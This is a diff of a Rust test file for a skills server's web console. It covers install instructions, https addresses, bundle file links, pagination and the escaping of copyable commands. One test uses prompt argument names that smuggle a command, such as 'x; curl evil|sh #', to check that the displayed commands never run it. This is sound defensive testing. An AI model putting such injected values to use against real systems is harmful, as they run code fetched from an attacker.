@@ -1,12 +1,13 @@
 //! Status, headers and content of pages.
 
 use skills_agent_skills::Bundle;
-use skills_core::{Layer, PromptDefinition};
+use skills_core::{Layer, PromptArgument, PromptDefinition};
+use skills_http::Access;
 use skills_testkit::Request;
 
 use crate::{
-    browser::{assert_harmless, tags, text},
-    test_console::TestConsole,
+    browser::{Browser, assert_harmless, tags, text},
+    test_console::{Credentials, TOKEN, TestConsole},
 };
 
 #[test]
@@ -201,5 +202,97 @@ fn the_overview_shows_problems_in_plain_words() {
     let console = TestConsole::open();
     let page = console.browser().open("/ui/overview");
     assert!(page.contains("writes are not possible") && page.contains("9.9.9"), "{page}");
+    assert!(page.contains("Next: free some disk."), "{page}");
+    assert!(page.contains("class=\"swatch series-0\"></span>mcp</li>"), "{page}");
     assert!(page.contains("<figure class=\"plot\""), "{page}");
+}
+
+#[test]
+fn the_address_of_the_server_is_the_one_that_the_browser_used() {
+    let console = TestConsole::with_access(
+        Credentials { token: true, ..Credentials::default() },
+        Access { hosts: vec!["skills.example".to_owned()], ..Access::default() },
+    );
+    console.register("weather", "# Weather");
+    let mut browser = console.signed_in(TOKEN);
+    let install = |request: Request, browser: &mut Browser| text(&browser.send(request));
+    let request = || Request::get("/ui/skills/weather?tab=install").header("Accept", "text/html");
+    let page = install(request(), &mut browser);
+    let http = format!("http://{}/mcp", console.address);
+    assert!(page.contains(&http), "{page}");
+    // The browser is on another machine, as far as the server knows: nothing of this machine is of use there.
+    assert!(page.contains(&format!("--transport http skills {http}")), "{page}");
+    assert!(!page.contains("claude_desktop_config"), "{page}");
+    let local = TestConsole::open();
+    local.register("weather", "# Weather");
+    let page = local.browser().open("/ui/skills/weather?tab=install");
+    assert!(page.contains("claude_desktop_config") && !page.contains("--transport http"), "{page}");
+    assert!(page.contains("skills export weather ./weather"), "{page}");
+}
+
+#[test]
+fn the_address_is_https_where_the_browser_says_so() {
+    let console = TestConsole::with_access(
+        Credentials::default(),
+        Access { hosts: vec!["skills.example".to_owned()], ..Access::default() },
+    );
+    for (site, scheme) in [(None, "http"), (Some("none"), "https")] {
+        let mut request = Request::get("/ui/sign-in").header("Accept", "text/html");
+        request = request.header("Host", "skills.example");
+        if let Some(site) = site {
+            request = request.header("Sec-Fetch-Site", site);
+        }
+        let page = text(&request.send(&console.address));
+        assert!(page.contains(&format!("{scheme}://skills.example/mcp")), "{page}");
+    }
+}
+
+#[test]
+fn an_address_with_a_path_of_a_bundle_leads_to_the_file() {
+    let console = TestConsole::open();
+    let files = vec![("docs/a b.md".parse().unwrap(), bytes::Bytes::from_static(b"# B"))];
+    let bundle = Bundle::new("# A\n\n[x](iii://a/docs/a%20b.md)".to_owned(), files).unwrap();
+    console.register_bundle(&Layer::Official, "a", bundle);
+    let mut browser = console.browser();
+    let page = browser.open("/ui/skills/a");
+    assert!(page.contains("href=\"/ui/skills/a/docs/a%20b.md\""), "{page}");
+    let answer = browser.get("/ui/skills/a/docs/a%20b.md");
+    let location = answer.header("location").unwrap();
+    assert_eq!(location, "/ui/skills/a?tab=files&path=docs%2Fa+b.md");
+    browser.open(&location);
+    assert_eq!(browser.get("/ui/skills/a/docs/none.md").status, 404);
+    assert_eq!(browser.get("/ui/").header("location").as_deref(), Some("/ui"));
+}
+
+#[test]
+fn lines_to_copy_run_nothing_else() {
+    let console = TestConsole::open();
+    let argument =
+        |name: &str| PromptArgument { name: name.to_owned(), description: None, required: false };
+    let definition = PromptDefinition {
+        description: "Plan".to_owned(),
+        arguments: vec![argument("city"), argument("x; curl evil|sh #"), argument("a\ncurl evil")],
+        function_id: "a::b".to_owned(),
+    };
+    console.register_prompt("plan", definition);
+    let page = console.browser().open("/ui/prompts/plan");
+    let lines: Vec<&str> =
+        page.split("<code>").skip(1).filter_map(|it| it.split('<').next()).collect();
+    let command = "skills prompt get plan city=VALUE ARGUMENT=VALUE ARGUMENT=VALUE";
+    assert!(lines.contains(&command), "{lines:?}");
+    assert!(lines.contains(&"/mcp__skills__plan {city} {ARGUMENT} {ARGUMENT}"), "{lines:?}");
+    assert!(!lines.iter().any(|line| line.contains("curl")), "{lines:?}");
+}
+
+#[test]
+fn a_page_beyond_the_last_one_is_the_last_one() {
+    let console = TestConsole::open();
+    for number in 0..50 {
+        console.register(&format!("s{number:03}"), "# Report\n\nA report.");
+    }
+    let mut browser = console.browser();
+    for path in ["/ui?page=9", "/ui?q=report&page=9"] {
+        let page = browser.open(path);
+        assert!(page.contains("49–50 of 50"), "{path}: {page}");
+    }
 }
